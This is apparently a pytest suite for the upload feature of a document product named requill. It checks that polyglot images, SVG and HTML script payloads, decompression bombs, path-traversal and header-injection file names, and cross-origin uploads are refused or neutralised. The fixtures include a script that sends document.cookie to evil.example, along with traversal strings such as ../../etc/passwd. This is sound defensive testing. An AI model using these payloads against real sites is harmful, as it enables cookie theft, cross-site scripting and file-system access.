"""Files that somebody made to do harm are refused, or harmless; none takes long, or much memory."""

from __future__ import annotations

import sys
import time
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path
from typing import Any

import anyio
import pytest

from requill.features.files import policy
from tests.support.pauses import pauses
from tests.support.people import Person, Product
from tests.support.pictures import (
    gif_of_frames,
    moving,
    opened,
    picture,
    png_that_says,
    png_with_text,
    sent,
    taken,
)

pytestmark = pytest.mark.anyio

_DRAW = """
import asyncio, pathlib, resource, sys
from requill.features.files import image_process
asyncio.run(image_process.make_anew(*map(pathlib.Path, sys.argv[1:])))
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
"""

SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
NOT_AN_IMAGE, TOO_COMPLEX = (422, "NOT_AN_IMAGE"), (422, "IMAGE_TOO_COMPLEX")
SECONDS = 5.0  # beside other work


async def _owner(product: Product) -> tuple[Person, Any]:
    person = await product.member()
    return person, await person.write_document()


async def _refusal(person: Person, document: Any, content: bytes, **options: Any) -> tuple[int, str]:
    answer = await sent(person, document, content, **options)
    return answer.status_code, answer.json().get("code", "")


def _kept(environment: Mapping[str, str]) -> list[Path]:
    folder = Path(environment["REQUILL_DATA_DIR"]) / "files"
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (SVG, "picture.svg"),
        (b'<?xml version="1.0"?>\n' + SVG, "picture.png"),
        (b"<!DOCTYPE html>" + SCRIPT, "picture.png"),
        (b"", "picture.png"),
        (b"\x89PNG\r\n\x1a\n", "picture.png"),
        (b"\x89PNG\r\n\x1a\n" + SCRIPT, "picture.png"),
        (b"GIF89a=1;alert(document.domain);//", "picture.gif"),
        (b"\xff\xd8\xff" + SCRIPT, "picture.jpg"),
        (b"RIFF\x00\x00\x00\x00WEBP" + SCRIPT, "picture.webp"),
        (b"BM" + bytes(100), "picture.bmp"),
        (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", "picture.png"),
        (b"P6 1 1 255 abc", "picture.png"),
        (b"PK\x03\x04" + bytes(40), "picture.png"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
async def test_what_is_no_image_is_none_whatever_it_is_called(
    product: Product, environment: Mapping[str, str], content: bytes, name: str
) -> None:
    assert await _refusal(*(await _owner(product)), content, name=name) == NOT_AN_IMAGE
    assert _kept(environment) == []


@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP", "GIF"])
async def test_an_image_that_was_cut_off_is_refused(shared_product: Product, form: str) -> None:
    person, document = await _owner(shared_product)
    whole = picture(form, (300, 200))
    for length in (12, 30, len(whole) // 2, len(whole) - 40):
        assert await _refusal(person, document, whole[:length]) == NOT_AN_IMAGE, length


@pytest.mark.parametrize(
    "make",
    [
        lambda: png_that_says(40_000, 40_000),
        lambda: png_that_says(40_000, 40_000, rows=2_000),
        lambda: png_that_says(2**31 - 1, 1),
        lambda: png_that_says(1, 2**31 - 1),
        lambda: png_that_says(20_000, 2),
        lambda: gif_of_frames(10_000),
        lambda: moving("WEBP", policy.FRAMES + 1, (2, 2)),
        lambda: moving("GIF", 5, (2, 2)).replace(b"\x02\x00\x02\x00", b"\x60\xea\x60\xea", 1),
    ],
    ids=["pixels", "bomb", "width", "height", "side", "frames", "webp frames", "canvas"],
)
async def test_what_is_small_and_becomes_enormous_is_refused_at_once(
    shared_product: Product, make: Callable[[], bytes]
) -> None:
    person, document = await _owner(shared_product)
    content = make()  # here: not in every process that collects tests
    began = time.monotonic()
    status, code = await _refusal(person, document, content)
    assert (status, code) in (TOO_COMPLEX, NOT_AN_IMAGE)
    assert time.monotonic() - began < SECONDS


@pytest.mark.full
async def test_texts_and_profiles_that_unpack_without_end_are_left_out_or_refused(product: Product) -> None:
    person, document = await _owner(product)
    bomb = png_with_text(200 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    answer = await sent(person, document, bomb)
    if answer.status_code == 201:
        assert len((await person.get(answer.json()["address"])).content) < 10_000
    else:
        assert (answer.status_code, answer.json()["code"]) == NOT_AN_IMAGE


@pytest.mark.full
async def test_the_program_that_draws_may_not_take_the_machine(product: Product, tmp_path: Path) -> None:
    source, target = tmp_path / "source", tmp_path / "target"
    source.write_bytes(png_that_says(16_000, 4_000, rows=4_000))  # as many pixels as there may be
    # A process of its own: what is told of programs includes what others took, and whoever started them.
    drawn = await anyio.run_process([sys.executable, "-c", _DRAW, str(source), str(target)])
    assert target.stat().st_size > 0
    assert int(drawn.stdout) * 1024 < policy.IMAGE_MEMORY_BYTES


@pytest.mark.full
async def test_nothing_waits_while_images_are_drawn(product: Product) -> None:
    person, document = await _owner(product)
    large = picture("PNG", (3_000, 2_000))
    async with pauses() as seen:
        for _ in range(3):
            await taken(person, document, large)
    assert seen.longest < 0.5  # of a machine that does other things too; it was drawn for seconds


async def test_what_was_hidden_behind_an_image_is_not_kept(product: Product) -> None:
    person, document = await _owner(product)
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.html", SCRIPT)
    comment = b"*/=1;alert(document.domain)/*"
    for content in (
        picture("PNG") + SCRIPT,
        picture("JPEG", comment=SCRIPT) + archive.getvalue(),
        picture("GIF", comment=comment) + comment,
        picture("WEBP") + SCRIPT,
    ):
        file = await taken(person, document, content, name="a.html")
        answer = await person.get(file["address"])
        assert answer.headers["content-type"].startswith("image/")
        assert b"script" not in answer.content
        assert b"alert" not in answer.content
        assert b"PK\x03\x04" not in answer.content
        assert opened(answer.content).size == (64, 40)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (SVG, "picture.svg"),
        (b"<!DOCTYPE html>" + SCRIPT, "page.html"),
        (b"alert(1)", "script.js"),
        (picture() + SCRIPT, "picture.png"),
        (b"%PDF-1.7 /JavaScript", "paper.pdf"),
        (b"", "empty"),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
async def test_a_file_that_could_run_is_only_ever_a_download(
    shared_product: Product, content: bytes, name: str
) -> None:
    person, document = await _owner(shared_product)
    file = await taken(person, document, content, name=name, kind="file")
    for called in (name, "x.html", "x.svg", "x.js"):
        answer = await person.get(f"/api/files/{file['id']}/{called}")
        assert answer.content == content
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment;")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers.get_list("content-security-policy")[0] == "sandbox; default-src 'none'"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\system.ini", "system.ini"),
        ("/etc/cron.d/evil", "evil"),
        ("..", "document"),
        ("", "document"),
        (".htaccess", "htaccess"),
        ("a\r\nSet-Cookie: x=1.txt", "a-Set-Cookie-x=1.txt"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("nul\x00l.txt", "null.txt"),
        ('a"; filename="b.html', "a;-filename=b.html"),
        ("x" * 200 + ".txt", "x" * 120 + ".txt"),
        ("a." + "y" * 200, "a." + "y" * 16),
        ("日本語 メモ.txt", "日本語-メモ.txt"),
        ("a)b](c.txt", "a)b](c.txt"),
    ],
)
async def test_no_name_leads_anywhere(
    product: Product, environment: Mapping[str, str], name: str, kept: str
) -> None:
    person, document = await _owner(product)
    file = await taken(person, document, b"hello", name=name, kind="file")
    assert file["name"] == kept
    assert not set(file["address"]) & set("()[]<> \"'\\\r\n")
    [path] = _kept(environment)
    assert path.name == file["id"]
    answer = await person.get(file["address"])
    assert answer.content == b"hello"
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "path",
    [
        "/api/files/../../etc/passwd",
        "/api/files/%2e%2e%2f%2e%2e%2fetc/passwd",
        "/api/files/..%2f..%2frequill.sqlite3/a",
        "/api/files/aaaaaaaaaaaaaaaaaaaaaaaaaa%00/a",
        "/api/files/AAAAAAAAAAAAAAAAAAAAAAAAAA/a",
        "/api/files/secret.key/a",
        "/api/files/a/b/c",
    ],
)
async def test_no_address_leads_anywhere(shared_product: Product, path: str) -> None:
    person, _ = await _owner(shared_product)
    assert (await person.get(path)).status_code == 404


@pytest.mark.parametrize(
    ("media_type", "status"),
    [
        ("image/png", 415),
        ("text/html", 415),
        ("multipart/form-data; boundary=x", 415),
        ("application/x-www-form-urlencoded", 415),
        ("text/plain", 415),
        ("application/json", 415),
        ("APPLICATION/octet-stream; charset=x", 201),
    ],
)
async def test_no_form_of_another_site_sends_a_file(
    shared_product: Product, media_type: str, status: int
) -> None:
    person, document = await _owner(shared_product)
    answer = await sent(person, document, picture(), **{"Content-Type": media_type})
    assert answer.status_code == status


async def test_another_site_sends_nothing(product: Product) -> None:
    person, document = await _owner(product)
    answer = await sent(person, document, picture(), Origin="https://evil.example")
    assert answer.status_code == 403


async def test_a_file_that_does_not_arrive_whole_is_not_kept(
    product: Product, environment: Mapping[str, str]
) -> None:
    person, document = await _owner(product)
    address = product.address.removeprefix("http://").split(":")
    cookie = "; ".join(f"{name}={value}" for name, value in person.http.cookies.items())
    async with await anyio.connect_tcp(address[0], int(address[1])) as stream:
        head = (
            f"POST /api/documents/{document['id']}/files?name=a&kind=file HTTP/1.1\r\nHost: x\r\n"
            f"Cookie: {cookie}\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000\r\n\r\n"
        )
        await stream.send(head.encode() + b"only some")
        await anyio.sleep(0.2)
    await anyio.sleep(0.2)
    assert _kept(environment) == []
    assert await _refusal(person, document, b"whole", kind="file") == (201, "")
